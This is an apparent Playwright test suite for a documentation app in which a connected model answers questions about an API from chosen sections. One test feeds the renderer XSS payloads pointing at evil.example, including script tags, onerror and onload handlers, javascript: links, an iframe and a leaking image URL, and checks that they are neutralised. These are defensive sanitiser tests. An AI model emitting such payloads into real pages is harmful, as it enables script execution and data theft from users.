// Docs: questions that a model answers in words, from sections that the engine has chosen.
import { createServer } from "node:http";
import { expect, test } from "@playwright/test";
import { connect, drop, editorText } from "./page.mjs";
import { startReplay } from "./replay.mjs";

let model;
test.beforeAll(async () => {
  // It may have to be compiled first.
  test.setTimeout(600_000);
  model = await startReplay();
});
test.afterAll(() => model?.close());

const DEPOT = `# Depot API

## List crates

\`GET /crates\`

Lists every crate of the depot.

## Remove a crate

\`DELETE /crates/{id}\`

Removes a crate for good.

## Opening hours

The depot opens at seven.
`;

test.beforeEach(async ({ page }) => {
  await page.goto("/docs");
  await expect(page.getByRole("heading", { name: "Drop API documentation" })).toBeVisible();
  await drop(page, "depot.md", DEPOT);
  await expect(page.locator(".status .good")).toContainText("2 operations", { timeout: 30_000 });
});

const offer = (page) => page.getByRole("region", { name: "Ask a model" });
const turn = (page) => page.locator(".turn").first();
const answer = (page) => turn(page).locator(".answer");

/** Looks a question up, and has the model answer it with this Markdown. */
async function ask(page, words, question = "How do I remove a crate?") {
  await page.getByLabel("Ask", { exact: true }).fill(`${question} Answer with: ${words.replaceAll("\n", "\\n")}`);
  await page.getByRole("button", { name: "Find" }).click();
  await offer(page).getByRole("button", { name: "Ask the model" }).click();
}
const whole = (page) => expect(turn(page)).toHaveAttribute("data-going", "false", { timeout: 20_000 });

test("what is sent is shown before anything is", async ({ page }) => {
  await page.getByLabel("Ask", { exact: true }).fill("How do I remove a crate?");
  await page.getByRole("button", { name: "Find" }).click();
  await expect(offer(page)).toContainText("A model can answer this from");
  await offer(page).getByRole("button", { name: "Connect a model" }).click();
  await page.keyboard.press("Escape");
  const root = model.root("answers-plan,model=words");
  await connect(page, root, "writer-1");
  await expect(offer(page)).toContainText(`goes to ${new URL(root).host}`);
  await offer(page).getByText("What is sent").click();
  await offer(page).locator("summary", { hasText: "Remove a crate" }).click();
  await expect(offer(page).locator("pre:visible")).toContainText("Removes a crate for good.");
  expect(await model.sent("answers-plan")).toEqual([]);
  await offer(page).getByRole("button", { name: "Ask the model" }).click();
  await expect(answer(page)).toHaveText("The documentation does not say it.");
  const [sent] = await model.sent("answers-plan");
  const asked = JSON.stringify(sent);
  expect(asked).toContain("Removes a crate for good.");
  expect(asked).toContain("GET /crates");
  // Nothing in it has words of the question.
  expect(asked).not.toContain("opens at seven");
});

test("an answer streams in, its numbers with it, and leads to operations", async ({ page }) => {
  await connect(page, model.root("answers-stream,model=words,delay=30,chunk=60"));
  await ask(page, "# Removing\n\nUse `DELETE /crates/{id}`, never `GET /secrets`.\n\n- one\n- two\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```sh\ncurl -X DELETE\n```\n");
  await expect(answer(page).locator("h1")).toHaveText("Removing");
  await expect(turn(page)).toHaveAttribute("data-going", "true");
  await whole(page);
  await expect(answer(page).locator("td")).toHaveText(["1", "2"]);
  await expect(answer(page).locator("figure.code code")).toHaveText("curl -X DELETE");
  await expect(page.locator(".status")).toContainText("to first token");
  await expect(page.locator(".status")).toContainText("to first paint");
  await expect(page.locator(".status")).toContainText("tokens");
  await expect(answer(page).locator(".name")).toHaveText(["DELETE /crates/{id}"]);
  await answer(page).locator(".name").click();
  await expect(page.locator(".op-title")).toContainText("/crates/{id}");
  // Back at the answer, it is there again without the model.
  await page.keyboard.press("Escape");
  await expect(answer(page).locator("h1")).toHaveText("Removing");
  expect(await model.sent("answers-stream")).toHaveLength(1);
});

test("what is selected and where one has scrolled stays while words come", async ({ page }) => {
  await connect(page, model.root("answers-still,model=words,delay=40,chunk=50"));
  const words = Array.from({ length: 12 }, (_, at) => `Sentence ${at} of a long answer that goes on.`).join(" ");
  await ask(page, `First paragraph.\n\n${words}\n\nLast paragraph.`);
  await expect(answer(page)).toContainText("Sentence 1 of");
  const before = await answer(page).evaluate((root) => {
    const text = [...root.querySelectorAll("p")].at(-1).firstChild;
    getSelection().setBaseAndExtent(text, 0, text, 8);
    root.closest(".op-list").scrollTop = 0;
    return getSelection().toString();
  });
  expect(before).toBe("Sentence");
  await whole(page);
  await expect(answer(page)).toContainText("Last paragraph.");
  expect(await page.evaluate(() => getSelection().toString())).toBe("Sentence");
  expect(await page.locator(".op-list").evaluate((list) => list.scrollTop)).toBe(0);
});

test("a definition that comes late makes its mention a link, which asks before it leads away", async ({ page }) => {
  await connect(page, model.root("answers-late,model=words,delay=30,chunk=40"));
  await ask(page, "See [the manual][m].[^n]\n\nMore text in between, so that it settles.\n\n[m]: https://manual.example/a\n\n[^n]: A note.\n");
  await whole(page);
  const link = answer(page).locator(".to");
  await expect(link).toHaveText("the manual");
  await link.click();
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText("https://manual.example/a");
  await dialog.getByRole("button", { name: "Stay" }).click();
  await answer(page).locator("sup a").first().click();
  await expect(answer(page).locator("div.footnote")).toBeFocused();
});

test("hostile Markdown runs nothing, fetches nothing and leads nowhere", async ({ page }) => {
  const away = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) away.push(request.url());
  });
  page.on("dialog", (dialog) => away.push(dialog.message()));
  await connect(page, model.root("answers-hostile,model=words"));
  await ask(
    page,
    [
      "<script>alert(1)</script>",
      "<img src=https://evil.example/a onerror=alert(1)>",
      "![leak](https://evil.example/leak?q=1)",
      "[x](javascript:alert(1)) [y](data:text/html,hi)",
      "<a href=\"https://evil.example\" onclick=alert(1)>raw</a>",
      "<button data-to=\"javascript:alert(1)\" onclick=alert(1)>push</button>",
      "<iframe src=https://evil.example></iframe>",
      "<svg onload=alert(1)></svg>",
      "<style>@import 'https://evil.example/s.css'</style>",
      "<blockquote cite=https://evil.example>quoted</blockquote>",
      "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
      "The end.",
    ].join("\n\n"),
  );
  await whole(page);
  await expect(answer(page)).toContainText("The end.");
  await expect(answer(page).locator("script, img, iframe, svg, style, [onclick], [onload], [ontoggle]")).toHaveCount(0);
  await expect(answer(page).locator("a[href]:not([href^='#'])")).toHaveCount(0);
  await expect(answer(page).locator("blockquote")).toHaveText("quoted");
  await answer(page).getByText("push").click();
  await expect(page.getByRole("dialog")).toHaveCount(0);
  // An image is a link to it, which asks.
  await answer(page).getByText("leak").click();
  await expect(page.getByRole("dialog")).toContainText("evil.example/leak");
  expect(away).toEqual([]);
});

test("an answer that is cut says so, keeps what came, and is asked again", async ({ page }) => {
  await connect(page, model.root("answers-cut,cut=60,times=1,delay=10,model=words"));
  await ask(page, "Some words that come before the connection is cut, and some that never do.");
  await whole(page);
  await expect(turn(page)).toContainText("This is not the whole answer.");
  await expect(answer(page)).toContainText("Some words");
  await expect(turn(page).getByRole("button", { name: "Copy as Markdown" })).toBeVisible();
  await turn(page).getByRole("button", { name: "Ask again" }).click();
  await whole(page);
  await expect(page.locator(".turn")).toHaveCount(1);
});

test("an answer can be stopped", async ({ page }) => {
  await connect(page, model.root("answers-stop,hang=50,model=words"));
  await ask(page, "Words that come, and then the server says nothing any more for a long time.");
  await expect(answer(page)).toContainText("Words");
  await page.keyboard.press("Escape");
  await expect(turn(page)).toContainText("Stopped: this is not the whole answer.");
  await expect(page.locator(".status")).toContainText("stopped");
  await expect(answer(page)).toContainText("Words");
});

test("a wrong key is told with what to do", async ({ page }) => {
  await connect(page, model.root("answers-locked,key=right,model=words"));
  await ask(page, "Never.");
  await whole(page);
  await expect(turn(page).locator(".turn-says")).toContainText(/key/i);
});

test("a question that follows keeps the conversation", async ({ page }) => {
  await connect(page, model.root("answers-follow,model=words"));
  await ask(page, "It is `DELETE /crates/{id}`.");
  await whole(page);
  await page.getByLabel("Ask", { exact: true }).fill("And is that final?");
  await page.getByRole("button", { name: "Find" }).click();
  await expect(offer(page)).toContainText("with the question before and its answer");
  await offer(page).getByRole("button", { name: "Ask the model" }).click();
  await expect(page.locator(".turn")).toHaveCount(2);
  await whole(page);
  const sent = await model.sent("answers-follow");
  const roles = JSON.stringify(sent[1]);
  expect(roles).toContain("It is `DELETE /crates/{id}`.");
  // What it is about is known from the question before.
  expect(roles).toContain("Removes a crate for good.");
  await page.getByRole("button", { name: "Forget the answers" }).click();
  await expect(page.locator(".turn")).toHaveCount(0);
});

test("code is opened in the tool that reads it, and coloured", async ({ page }) => {
  await connect(page, model.root("answers-code,model=words"));
  await ask(page, "```json\n{\"crate\": 7}\n```\n\n```mermaid\nflowchart TD\n  a --> b\n```\n\n```python\nprint(1)\n```\n");
  await whole(page);
  const codes = answer(page).locator("figure.code");
  await expect(codes).toHaveCount(3);
  await expect(codes.nth(2).getByRole("button")).toHaveText(["Copy"]);
  await expect(codes.nth(0).getByRole("button")).toHaveText(["Copy", "Open in Repair", "Open in Convert"]);
  await expect.poll(() => page.evaluate(() => [...CSS.highlights.values()].reduce((sum, one) => sum + one.size, 0))).toBeGreaterThan(2);
  await codes.nth(1).getByRole("button", { name: "Open in Diagram" }).click();
  await expect(page).toHaveURL(/\/diagram/);
  expect(await editorText(page, "Diagram text")).toContain("a --> b");
});

/** A server that answers each question with the next of these lists of chunks, when it is told to. */
async function serveAnswers(...answers) {
  const asked = [];
  const server = createServer(async (request, response) => {
    const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
    if (request.method === "OPTIONS") return void response.writeHead(204, cors).end();
    let body = "";
    for await (const part of request) body += part;
    asked.push(JSON.parse(body));
    response.writeHead(200, { ...cors, "content-type": "text/event-stream" });
    for (const step of answers[asked.length - 1] ?? []) {
      if (step instanceof Promise) await step;
      else response.write(`data: ${JSON.stringify({ id: "a", object: "chat.completion.chunk", choices: [{ index: 0, ...step }] })}\n\n`);
    }
    response.end("data: [DONE]\n\n");
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  return { asked, root: `http://127.0.0.1:${server.address().port}/v1`, close: () => server.close() };
}

/** A call of a tool: what opens it, and a piece of its arguments. */
const opens = (name) => ({ delta: { tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name, arguments: "" } }] } });
const writes = (text) => ({ delta: { tool_calls: [{ index: 0, function: { arguments: text } }] } });
const says = (content) => ({ delta: { content } });
const ends = (finish_reason) => ({ delta: {}, finish_reason });

test("a model looks up what it lacks while it still writes the call, and goes on with it", async ({ page }) => {
  let finish;
  const held = new Promise((resolve) => (finish = resolve));
  const server = await serveAnswers(
    [says("Let me look."), opens("find_sections"), writes('{"words": "opening'), writes(' hours"'), held, writes("}"), ends("tool_calls")],
    [says("It opens at **seven**."), ends("stop")],
  );
  try {
    await connect(page, server.root);
    await ask(page, "nothing");
    // The call is not whole, and what it asks for is there.
    await expect(turn(page)).toContainText("The model looked up 1 thing");
    await turn(page).getByText("The model looked up 1 thing").click();
    await expect(turn(page)).toContainText("Sections about “opening hours”: Depot API › Opening hours");
    expect(server.asked).toHaveLength(1);
    expect(server.asked[0].tools).toHaveLength(2);
    finish();
    await whole(page);
    await expect(answer(page).locator("p")).toHaveText(["Let me look.", "It opens at seven."]);
    expect(server.asked).toHaveLength(2);
    const { messages } = server.asked[1];
    expect(messages.at(-1)).toMatchObject({ role: "tool", tool_call_id: "call_1" });
    expect(messages.at(-1).content).toContain("The depot opens at seven.");
  } finally {
    server.close();
  }
});

test("a model that may not look up is offered nothing to look up with", async ({ page }) => {
  await connect(page, model.root("answers-closed,model=words"));
  await page.getByLabel("Ask", { exact: true }).fill("How do I remove a crate? Answer with: So.");
  await page.getByRole("button", { name: "Find" }).click();
  await offer(page).getByLabel("It may look up more in these documents while it answers").uncheck();
  await offer(page).getByRole("button", { name: "Ask the model" }).click();
  await whole(page);
  const [sent] = await model.sent("answers-closed");
  expect(JSON.stringify(sent)).not.toContain("find_sections");
});
